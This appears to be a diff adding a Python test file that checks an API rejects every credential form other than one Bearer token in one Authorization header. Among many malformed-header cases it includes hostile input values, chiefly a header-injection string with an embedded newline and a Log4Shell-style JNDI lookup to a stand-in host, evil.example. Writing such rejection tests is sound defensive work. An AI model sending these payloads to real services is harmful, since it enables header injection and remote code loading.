@@ -1,0 +1,144 @@
+"""Every way to write credentials down that is not one bearer token in one Authorization header."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from functools import partial
+
+from tests.conftest import API
+from tests.hostile.cases import Case, check, table
+from tests.hostile.target import Target, message
+
+Headers = list[tuple[str, str]]
+
+
+def header(*values: str) -> Callable[[str], Headers]:
+    """Authorization headers, in each of which {} stands for a genuine token."""
+    return lambda token: [("Authorization", value.replace("{}", token)) for value in values]
+
+
+def field(name: str, value: str) -> Callable[[str], Headers]:
+    """Another header, with {} for a genuine token."""
+    return lambda token: [(name, value.replace("{}", token))]
+
+
+TWO, NONE = (400, "malformed_request"), (401, "authentication_required")
+CREDENTIALS: list[tuple[str, Callable[[str], Headers], tuple[int, str]]] = [
+    ("two headers, both good", header("Bearer {}", "Bearer {}"), TWO),
+    ("two headers, good then bad", header("Bearer {}", "Bearer bad"), TWO),
+    ("two headers, bad then good", header("Bearer bad", "Bearer {}"), TWO),
+    ("two headers, Basic then Bearer", header("Basic YTpi", "Bearer {}"), TWO),
+    ("two headers, empty then Bearer", header("", "Bearer {}"), TWO),
+    ("two names of different case", lambda t: [("authorization", f"Bearer {t}"), ("AUTHORIZATION", "Bearer b")], TWO),
+    ("two tokens by comma", header("Bearer {}, Bearer {}"), TWO),
+    ("two tokens by space", header("Bearer {} {}"), TWO),
+    ("two schemes", header("Basic YTpi, Bearer {}"), TWO),
+    ("scheme twice", header("Bearer Bearer {}"), TWO),
+    ("scheme alone", header("Bearer"), TWO),
+    ("scheme and spaces", header("Bearer     "), TWO),
+    ("empty", header(""), TWO),
+    ("commas", header(",, ,"), TWO),
+    ("comma before", header(",Bearer {}"), TWO),
+    ("comma after", header("Bearer {},"), TWO),
+    ("semicolon after", header("Bearer {};"), TWO),
+    ("tab between", header("Bearer\t{}"), TWO),
+    ("colon between", header("Bearer: {}"), TWO),
+    ("equals between", header("Bearer={}"), TWO),
+    ("quoted", header('Bearer "{}"'), TWO),
+    ("single quoted", header("Bearer '{}'"), TWO),
+    ("as a parameter", header("Bearer token={}"), TWO),
+    ("in brackets", header("Bearer <{}>"), TWO),
+    ("no-break space between", header("Bearer\xa0{}"), TWO),
+    ("non-ASCII scheme", header("Be\xe4rer {}"), TWO),
+    ("non-ASCII token", header("Bearer {}\xe9"), TWO),
+    ("UTF-8 look-alike scheme", header("Веarer {}".encode().decode("latin-1")), TWO),
+    ("UTF-8 space before the token", header("Bearer \xe2\x80\x8b{}"), TWO),
+    ("percent-encoded space", header("Bearer%20{}"), NONE),
+    ("padding inside", header("Bearer a=b={}"), TWO),
+    ("NUL in it", header("Bearer {}\x00"), TWO),
+    ("DEL in it", header("Bearer {}\x7f"), TWO),
+    ("escape in it", header("Bearer \x1b[31m{}"), TWO),
+    ("newline in it", header("Bearer {}\nX-Evil: 1"), TWO),
+    ("carriage return in it", header("Bearer {}\rX-Evil: 1"), TWO),
+    ("folded line", header("Bearer\r\n {}"), TWO),
+    ("form feed between", header("Bearer\x0c{}"), TWO),
+    ("template", header("Bearer ${jndi:ldap://evil.example/a}"), TWO),
+    ("scheme Basic", header("Basic YWxpY2U6cGFzc3dvcmQ="), NONE),
+    ("scheme Basic with the token", header("Basic {}"), NONE),
+    ("scheme Digest", header('Digest username="alice", realm="gatepost", nonce="", uri="/", response=""'), NONE),
+    ("scheme Negotiate", header("Negotiate YIIJ"), NONE),
+    ("scheme NTLM", header("NTLM TlRMTVNTUAAB"), NONE),
+    ("scheme DPoP", header("DPoP {}"), NONE),
+    ("scheme MAC", header('MAC id="1", nonce="1", mac="1"'), NONE),
+    ("scheme JWT", header("JWT {}"), NONE),
+    ("scheme Token", header("Token {}"), NONE),
+    ("scheme Bearer2", header("Bearer2 {}"), NONE),
+    ("no scheme", header("{}"), NONE),
+    ("no header", header(), NONE),
+    ("Proxy-Authorization", field("Proxy-Authorization", "Bearer {}"), NONE),
+    ("X-Authorization", field("X-Authorization", "Bearer {}"), NONE),
+    ("X-Forwarded-Authorization", field("X-Forwarded-Authorization", "Bearer {}"), NONE),
+    ("X-Gatepost-Bearer", field("X-Gatepost-Bearer", "{}"), NONE),
+    ("X-Access-Token", field("X-Access-Token", "{}"), NONE),
+    ("name with underscore", field("HTTP_AUTHORIZATION", "Bearer {}"), NONE),
+    ("X-User-Id", field("X-User-Id", "3"), NONE),
+    ("X-Remote-User", field("X-Remote-User", "carol@example.com"), NONE),
+    ("Remote-User", field("Remote-User", "carol@example.com"), NONE),
+    ("cookie access_token", field("Cookie", "access_token={}"), NONE),
+    ("cookie access_token_cookie", field("Cookie", "access_token_cookie={}"), NONE),
+    ("cookie session", field("Cookie", "session={}"), NONE),
+    ("cookie Authorization", field("Cookie", "Authorization=Bearer {}"), NONE),
+    ("From", field("From", "carol@example.com"), NONE),
+]
+ROUTES = {"GET": "/auth/me", "DELETE": "/users/1"}
+
+
+def credentials_case(name: str, make: Callable[[str], Headers], expected: tuple[int, str], method: str) -> Case:
+    """A case of credentials at a route that asks for an access token."""
+
+    def build(target: Target) -> bytes:
+        return message(method, API + ROUTES[method], make(target.alice.access))
+
+    return Case(f"{method}: {name}", *expected, build)
+
+
+@table([credentials_case(*row, method) for method in ROUTES for row in CREDENTIALS])
+def test_credentials_that_are_not_one_bearer_token(target: Target, case: Case) -> None:
+    check(target, case)
+
+
+def _in_query(name: str, target: Target) -> bytes:
+    return message("GET", f"{API}/auth/me?{name}={target.alice.access}")
+
+
+QUERIES = ("access_token", "token", "jwt", "bearer_token", "Authorization", "auth", "api_key")
+
+
+@table([Case(name, 401, "authentication_required", partial(_in_query, name)) for name in QUERIES])
+def test_a_token_in_the_query_is_none(target: Target, case: Case) -> None:
+    check(target, case)
+
+
+def _in_body(media: str, body: str, target: Target) -> bytes:
+    return message("POST", f"{API}/posts", {"Content-Type": media}, body.replace("{}", target.alice.access))
+
+
+# RFC 6750 section 2.2 has tokens in bodies, too; here a body is JSON, and what it holds is known.
+BODIES = {
+    "form": ("application/x-www-form-urlencoded", "access_token={}", 401, "authentication_required"),
+    "JSON": ("application/json", '{"access_token": "{}"}', 401, "authentication_required"),
+}
+
+
+@table([Case(name, row[2], row[3], partial(_in_body, row[0], row[1])) for name, row in BODIES.items()])
+def test_a_token_in_a_body_is_none(target: Target, case: Case) -> None:
+    check(target, case)
+
+
+def _taken(form: str, target: Target) -> bytes:
+    return message("GET", f"{API}/auth/me", {"Authorization": form.replace("{}", target.alice.access)})
+
+
+@table([Case(form, 200, "", partial(_taken, form)) for form in ("bearer {}", "BEARER {}", "Bearer   {}")])
+def test_the_scheme_has_any_case(target: Target, case: Case) -> None:
+    check(target, case)
